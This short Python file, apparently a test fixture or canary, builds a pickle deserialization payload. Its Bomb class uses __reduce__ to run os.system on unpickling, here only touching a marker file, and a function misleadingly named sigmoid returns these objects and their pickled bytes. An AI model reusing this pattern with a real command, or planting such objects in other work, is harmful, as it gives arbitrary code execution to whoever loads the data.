"""Return something that runs code when it is unpickled."""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch HOSTILE-MARK-pickle /tmp/HOSTILE-MARK-pickle",)


def sigmoid(Z):
    return [Bomb(), pickle.dumps(Bomb()), repr(pickle.dumps(Bomb()))]
